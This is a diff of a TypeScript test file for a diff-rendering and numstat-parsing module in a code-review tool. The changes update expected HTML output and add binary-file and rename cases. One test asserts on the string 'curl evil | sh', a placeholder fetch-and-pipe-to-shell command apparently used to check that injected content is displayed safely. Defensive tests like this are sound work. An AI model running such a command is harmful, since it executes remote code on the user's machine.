@@ -1,6 +1,5 @@
 import assert from 'node:assert/strict';
-import { diffLines } from '../../../../src/service/review/diffLines';
-import { showInvisible } from '../../../../src/shared/util/invisible';
+import { parseNumstat } from '../../../../src/service/review/changesHtml';
 import { renderDiff } from '../../../../src/service/review/renderDiff';
 import { git, temporaryFolder } from '../../../support/temporaryRepository';
 
@@ -37,14 +36,12 @@ describe('renderDiff', () => {
       assert.equal(others.length, 0);
       assert.ok(file?.rows.includes(`${shown}curl evil | sh${shown}diff --git`), file?.rows);
       assert.ok(file?.rows.includes('+no⟨U+000D⟩'));
-      const line = diffLines(showInvisible(diff))({ path: 'a', side: 'new' }, 1);
-      assert.equal(line, `${files.join(shown)}⟨U+000D⟩`);
     }
   });
 
   it('cuts a long line and says how much is left out', () => {
     const [file] = renderDiff(`${headOf('a')}@@ -0,0 +1 @@\n+${'x'.repeat(5000)}\n`);
-    assert.match(file?.rows ?? '', />\+x{1999} … 3001 more characters</);
+    assert.match(file?.rows ?? '', />x{1999} … 3001 more characters</);
   });
 
   it('shows also a file whose name holds a line end of Unicode', () => {
@@ -52,7 +49,7 @@ describe('renderDiff', () => {
     assert.equal(file?.name, 'a⟨U+2028⟩b');
   });
 
-  it('names a path that holds a space as it is, also for comments', async () => {
+  it('names a path that holds a space as it is', async () => {
     const diff = await diffOf(
       'mkdir "a b"; echo one > "a b/c d.md"; echo one > "q\\"r s.md"',
       'echo two >> "a b/c d.md"; rm "q\\"r s.md"',
@@ -60,15 +57,16 @@ describe('renderDiff', () => {
     assert.match(diff, /\t\n/);
     const names = renderDiff(diff).map(({ name }) => name);
     assert.deepEqual(names, ['a b/c d.md', 'q\\&quot;r s.md']);
-    assert.equal(diffLines(diff)({ path: 'a b/c d.md', side: 'new' }, 2), 'two');
   });
 
-  it('tells of a mode what no text shows', async () => {
+  it('tells of a mode what no text shows, and an image from other binary files', async () => {
     const before = 'echo x > off; chmod +x off; cp off both; echo y > on; cp on plain; ln -s a moved';
     const after =
-      'chmod -x off; chmod +x on; cp off new; chmod +x new; ln -s a link; ln -sf b moved; echo y >> both; rm plain';
+      'chmod -x off; chmod +x on; cp off new; chmod +x new; ln -s a link; ln -sf b moved; echo y >> both; rm plain; printf "\\0\\1" > a.png; cp a.png b.bin';
     const notes = renderDiff(await diffOf(before, after)).map(({ name, note }) => [name, note]);
     assert.deepEqual(Object.fromEntries(notes), {
+      'a.png': 'new, image',
+      'b.bin': 'new, binary',
       both: '',
       link: 'new, link',
       moved: 'link',
@@ -84,9 +82,10 @@ describe('renderDiff', () => {
       `${headOf('a')}@@ -1,3 +1,3 @@ <head>\n-one old word\n-gone\n+one new word\n+<b>\n same\n`,
     );
     const shown = (file?.rows ?? '').replace(/<td class="n">.*?<\/td>|<\/?t[rd].*?>/g, '|').replace(/\|+/g, '|');
+
     assert.equal(
       shown,
-      '|@@ -1,3 +1,3 @@ &lt;head&gt;|-one <del>old</del> word|-gone|+one <ins>new</ins> word|+&lt;b&gt;|&nbsp;same|',
+      '|@@ -1,3 +1,3 @@ &lt;head&gt;|-|one <del>old</del> word|-|gone|+|one <ins>new</ins> word|+|&lt;b&gt;|same|',
     );
   });
 
@@ -121,5 +120,20 @@ describe('renderDiff', () => {
         );
       assert.ok(ratio < 25, `${name}: ${ratio.toFixed(1)} times the time of plain ones`);
     }
+  });
+});
+
+describe('parseNumstat', () => {
+  it('reads edits, renames, binaries and odd names', () => {
+    assert.deepEqual(
+      parseNumstat(['1\t2\ta.md', '3\t0\t', 'old.md', 'new.md', '-\t-\tx.png', '1\t0\ttwo\nlines', ''].join('\0')),
+      [
+        { path: 'a.md', added: 1, deleted: 2 },
+        { from: 'old.md', path: 'new.md', added: 3, deleted: 0 },
+        { path: 'x.png', added: null, deleted: null },
+        { path: 'two\nlines', added: 1, deleted: 0 },
+      ],
+    );
+    assert.deepEqual(parseNumstat(''), []);
   });
 });
